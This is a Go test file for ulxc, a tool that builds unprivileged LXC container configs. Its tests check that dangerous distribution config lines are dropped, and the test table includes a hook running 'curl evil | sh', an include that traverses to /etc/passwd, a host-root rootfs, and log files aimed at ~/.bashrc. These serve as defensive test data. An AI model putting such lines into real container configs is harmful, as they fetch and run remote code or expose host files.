package template

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ulxc/ulxc/image"
	"github.com/ulxc/ulxc/lxcconf"
	"github.com/ulxc/ulxc/userns"
)

func TestParseKind(t *testing.T) {
	tests := []struct {
		in   string
		want Kind
		err  error
	}{
		{"download", Download, nil},
		{"busybox", Busybox, nil},
		{"lxc-download", Download, nil},
		{"/usr/share/lxc/templates/lxc-busybox", Busybox, nil},
		{"ubuntu", "", ErrUnknownTemplate},
		{"", "", ErrUnknownTemplate},
	}
	for _, tc := range tests {
		got, err := ParseKind(tc.in)
		if got != tc.want || !errors.Is(err, tc.err) {
			t.Errorf("ParseKind(%q) = %q, %v, want %q, %v", tc.in, got, err, tc.want, tc.err)
		}
	}
}

func TestDistributionLines(t *testing.T) {
	vars := map[string]string{"LXC_NAME": "web", "LXC_TEMPLATE_CONFIG": TemplateConfigDir, "LXC_PATH": "/s/web"}
	tests := []struct {
		line string
		want string // "" = dropped
	}{
		{"lxc.include = LXC_TEMPLATE_CONFIG/common.conf", "lxc.include = /usr/share/lxc/config/common.conf"},
		{"lxc.include = LXC_TEMPLATE_CONFIG/../../../../etc/passwd", ""},
		{"lxc.include = /home/user/evil.conf", ""},
		{"lxc.include = relative.conf", ""},
		{"lxc.arch = x86_64", "lxc.arch = x86_64"},
		{"lxc.include = LXC_TEMPLATE_CONFIG/userns.conf", "lxc.include = /usr/share/lxc/config/userns.conf"},
		{"lxc.include = LXC_TEMPLATE_CONFIG/debian.common.conf", "lxc.include = /usr/share/lxc/config/debian.common.conf"},
		{"lxc.include = LXC_TEMPLATE_CONFIG/nesting.conf", ""},
		{"lxc.include = LXC_TEMPLATE_CONFIG/common.conf.d/", ""},
		{"lxc.mount.auto = proc:rw sys:rw cgroup:rw", ""},
		{"lxc.start.auto = 1", ""},
		{"lxc.cgroup2.memory.max = 1", ""},
		{"lxc.sysctl.net.ipv4.ip_forward = 1", ""},
		{"lxc.init.cmd = /sbin/init LXC_NAME", "lxc.init.cmd = /sbin/init web"},
		{"# a comment with LXC_NAME", "# a comment with web"},
		{"lxc.hook.pre-start = /bin/sh -c 'curl evil | sh'", ""},
		{"lxc.hook.version = 1", ""},
		{"lxc.idmap = u 0 0 65536", ""},
		{"lxc.id_map = u 0 0 65536", ""},
		{"lxc.rootfs.path = dir:/", ""},
		{"lxc.rootfs = /", ""},
		{"lxc.mount.entry = /home home none bind 0 0", ""},
		{"lxc.mount.fstab = /etc/fstab", ""},
		{"lxc.net.0.type = none", ""},
		{"lxc.network.type = none", ""},
		{"lxc.namespace.share.net = 1", ""},
		{"lxc.log.file = /home/user/.bashrc", ""},
		{"lxc.console.logfile = /home/user/.profile", ""},
		{"lxc.uts.name = other", ""},
		{"garbage", ""},
	}
	for _, tc := range tests {
		var warned []string
		got := distributionLines(tc.line, vars, func(w string) { warned = append(warned, w) })
		want := []string{tc.want}
		if tc.want == "" {
			want = nil
		}
		if !slices.Equal(got, want) {
			t.Errorf("distributionLines(%q) = %q, want %q", tc.line, got, want)
		}
		if (tc.want == "") != (len(warned) == 1) {
			t.Errorf("distributionLines(%q) warned %q, want one warning exactly when dropped", tc.line, warned)
		}
	}
}

func TestConfigLine(t *testing.T) {
	tests := []struct{ key, value, want string }{
		{"lxc.uts.name", "web", "lxc.uts.name = web"},
		{"lxc.environment", " padded ", `lxc.environment = " padded "`},
		{"lxc.environment", `"quoted"`, `lxc.environment = ""quoted""`},
		{"lxc.cap.drop", "", "lxc.cap.drop ="},
	}
	for _, tc := range tests {
		line := configLine(tc.key, tc.value)
		if line != tc.want {
			t.Errorf("configLine(%q, %q) = %q, want %q", tc.key, tc.value, line, tc.want)
		}
		// LXC must read back the value that was meant.
		c, err := lxcconf.Parse(strings.NewReader(line+"\n"), "", lxcconf.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := c.Values(tc.key); tc.value != "" && (len(got) != 1 || got[0] != tc.value) {
			t.Errorf("config %q reads back as %q, want %q", line, got, tc.value)
		}
	}
}

func TestBuildConfig(t *testing.T) {
	dir := t.TempDir()
	def := filepath.Join(dir, "default.conf")
	err := os.WriteFile(def, []byte(`lxc.net.0.type = veth
lxc.net.0.link = lxcbr0
lxc.idmap = u 0 100000 65536
lxc.idmap = g 0 100000 65536
lxc.mount.fstab = fstab
lxc.apparmor.profile = generated
lxc.rootfs.path = dir:/elsewhere
`), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := lxcconf.Load(def, lxcconf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	maps := []userns.Map{{Kind: userns.UID, ContainerID: 0, HostID: 100000, Size: 65536}, {Kind: userns.GID, ContainerID: 0, HostID: 100000, Size: 65536}}
	b, err := buildConfig(configInput{
		Name: "web", Rootfs: rootfsConfig{Path: "dir:/store/web/rootfs"}, Default: cfg, Maps: maps,
		Distribution: "lxc.include = LXC_TEMPLATE_CONFIG/common.conf\nlxc.arch = x86_64\nlxc.hook.start = /bad\n",
		Vars:         map[string]string{"LXC_TEMPLATE_CONFIG": TemplateConfigDir},
		Comment:      []string{"Created by: test"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := `# Created by: test
# For additional config options, please look at lxc.container.conf(5)

# Distribution configuration
lxc.include = /usr/share/lxc/config/common.conf
lxc.arch = x86_64

# Container specific configuration
lxc.mount.fstab = ` + filepath.Join(dir, "fstab") + `
lxc.apparmor.profile = generated
lxc.idmap = u 0 100000 65536
lxc.idmap = g 0 100000 65536
lxc.rootfs.path = dir:/store/web/rootfs
lxc.uts.name = web

# Network configuration
lxc.net.0.type = veth
lxc.net.0.link = lxcbr0
`
	if string(b) != want {
		t.Errorf("buildConfig =\n%s\nwant\n%s", b, want)
	}
	// It is a valid config, committed atomically.
	conf := filepath.Join(dir, "config")
	if err := lxcconf.WriteFile(conf, b); err != nil {
		t.Fatal(err)
	}
	if err := lxcconf.WriteFile(conf, []byte("not a config line\n")); err == nil {
		t.Errorf("writeConfig of a broken config = nil error")
	}
	if got, _ := os.ReadFile(conf); string(got) != want {
		t.Errorf("a refused writeConfig changed the config")
	}
}

func TestMapSize(t *testing.T) {
	u := func(c, h, s uint32) userns.Map {
		return userns.Map{Kind: userns.UID, ContainerID: c, HostID: h, Size: s}
	}
	g := func(c, h, s uint32) userns.Map {
		return userns.Map{Kind: userns.GID, ContainerID: c, HostID: h, Size: s}
	}
	tests := []struct {
		maps []userns.Map
		want uint32
	}{
		{[]userns.Map{u(0, 100000, 65536), g(0, 100000, 65536)}, 65536},
		{[]userns.Map{u(0, 1000, 1), g(0, 1000, 1)}, 1},
		{[]userns.Map{u(0, 100000, 1000), u(1000, 300000, 64536), g(0, 100000, 65536)}, 65536},
		{[]userns.Map{u(0, 100000, 65536), g(0, 100000, 1000)}, 1000},
		// A map with a gap: only the ids below it are usable.
		{[]userns.Map{u(0, 100000, 10), u(20, 200000, 10), g(0, 100000, 65536)}, 10},
	}
	for _, tc := range tests {
		if got := mapSize(tc.maps); got != tc.want {
			t.Errorf("mapSize(%v) = %d, want %d", tc.maps, got, tc.want)
		}
	}
}

// TestChildErrorsKeepSentinels checks that an error of the child matches
// the same sentinel in the parent.
func TestChildErrorsKeepSentinels(t *testing.T) {
	for _, s := range []error{image.ErrInsecurePath, image.ErrLimit, image.ErrUnmappedID, image.ErrDynamicBusybox} {
		r := failed(reply{}, fmt.Errorf("unpack rootfs: x: %w", s))
		err := &childError{msg: r.Error, err: sentinels[r.Kind]}
		if !errors.Is(err, s) || err.Error() != "unpack rootfs: x: "+s.Error() {
			t.Errorf("child error %q in the parent = %v (kind %q), want it to match %v", r.Error, err, r.Kind, s)
		}
	}
	if r := failed(reply{}, errors.New("other")); r.Kind != "" {
		t.Errorf("failed(other).Kind = %q, want none", r.Kind)
	}
}

// TestDefaultNetwork: a config without a network gets the default one,
// visibly; one that names an interface keeps it exactly.
func TestDefaultNetwork(t *testing.T) {
	dir := t.TempDir()
	load := func(text string) *lxcconf.Config {
		p := filepath.Join(dir, "default.conf")
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		c, err := lxcconf.Load(p, lxcconf.Options{})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	pasta := defaultNetwork{Type: "pasta", Comment: "the default", Warning: "a warning"}
	for _, tc := range []struct {
		name, def string
		want      string // the network section
		warned    bool
	}{
		{"none configured", "lxc.apparmor.profile = generated\n",
			"\n# Network configuration\n# the default\nlxc.net.0.type = pasta\n", true},
		{"empty kept", "lxc.net.0.type = empty\n", "\n# Network configuration\nlxc.net.0.type = empty\n", false},
		{"veth kept", "lxc.net.0.type = veth\nlxc.net.0.link = br0\n",
			"\n# Network configuration\nlxc.net.0.type = veth\nlxc.net.0.link = br0\n", false},
		{"legacy kept", "lxc.network.type = none\n", "\n# Network configuration\nlxc.net.0.type = none\n", false},
	} {
		var warnings []string
		b, err := buildConfig(configInput{Name: "c", Rootfs: rootfsConfig{Path: "dir:/r"}, Default: load(tc.def), Network: pasta,
			Warn: func(w string) { warnings = append(warnings, w) }})
		if err != nil {
			t.Fatal(err)
		}
		_, section, _ := strings.Cut(string(b), "lxc.uts.name = c\n")
		if section != tc.want {
			t.Errorf("%s: network section %q, want %q", tc.name, section, tc.want)
		}
		if tc.warned != (len(warnings) == 1 && warnings[0] == "a warning") {
			t.Errorf("%s: warnings %q", tc.name, warnings)
		}
		if _, err := lxcconf.Parse(strings.NewReader(string(b)), "config", lxcconf.Options{}); err != nil {
			t.Errorf("%s: the config does not parse: %v", tc.name, err)
		}
	}
}

func TestChooseNetwork(t *testing.T) {
	has := func(names ...string) func(string) (string, error) {
		return func(name string) (string, error) {
			if slices.Contains(names, name) {
				return "/usr/bin/" + name, nil
			}
			return "", exec.ErrNotFound
		}
	}
	tun := tunUsable()
	for _, tc := range []struct {
		installed []string
		want      string
	}{
		{[]string{"pasta", "slirp4netns"}, "pasta"},
		{[]string{"slirp4netns"}, "slirp4netns"},
		{nil, "empty"},
	} {
		n := chooseNetwork(has(tc.installed...))
		if n.Type != tc.want || n.Comment == "" {
			t.Errorf("chooseNetwork(%q) = %+v, want type %s and a comment", tc.installed, n, tc.want)
		}
		switch {
		case tc.want == "empty" && !strings.Contains(n.Warning, "apt-get install passt"):
			t.Errorf("chooseNetwork(nothing).Warning = %q, want the package to install", n.Warning)
		case tc.want != "empty" && (tun == nil) != (n.Warning == ""):
			t.Errorf("chooseNetwork(%q).Warning = %q with /dev/net/tun: %v", tc.installed, n.Warning, tun)
		case tc.want != "empty" && tun != nil && !strings.Contains(n.Warning, "chmod 0666 /dev/net/tun"):
			t.Errorf("chooseNetwork(%q).Warning = %q, want the fix", tc.installed, n.Warning)
		}
	}
}

// TestBuildConfigOverlay: an overlay rootfs gets LXC's overlay path and
// lxc.rootfs.options = userxattr, added once to default.conf's own
// options, which are not lost.
func TestBuildConfigOverlay(t *testing.T) {
	for _, tc := range []struct {
		name, def, want string
	}{
		{"no options", "", "lxc.rootfs.options = userxattr"},
		{"default.conf's options", "lxc.rootfs.options = nodev,noatime\n", "lxc.rootfs.options = nodev,noatime,userxattr"},
		{"already there", "lxc.rootfs.options = userxattr\n", "lxc.rootfs.options = userxattr"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			def := filepath.Join(t.TempDir(), "default.conf")
			if err := os.WriteFile(def, []byte(tc.def), 0o644); err != nil {
				t.Fatal(err)
			}
			cfg, err := lxcconf.Load(def, lxcconf.Options{})
			if err != nil {
				t.Fatal(err)
			}
			path := "overlay:/cache/layer.1/rootfs:/store/c/overlay/delta"
			b, err := buildConfig(configInput{Name: "c", Rootfs: rootfsConfig{Path: path, Options: overlayConfigOptions}, Default: cfg})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, l := range strings.Split(string(b), "\n") {
				if strings.HasPrefix(l, "lxc.rootfs.") {
					got = append(got, l)
				}
			}
			want := []string{"lxc.rootfs.path = " + path, tc.want}
			if strings.Join(got, "|") != strings.Join(want, "|") {
				t.Errorf("buildConfig rootfs lines = %q, want %q", got, want)
			}
		})
	}
}
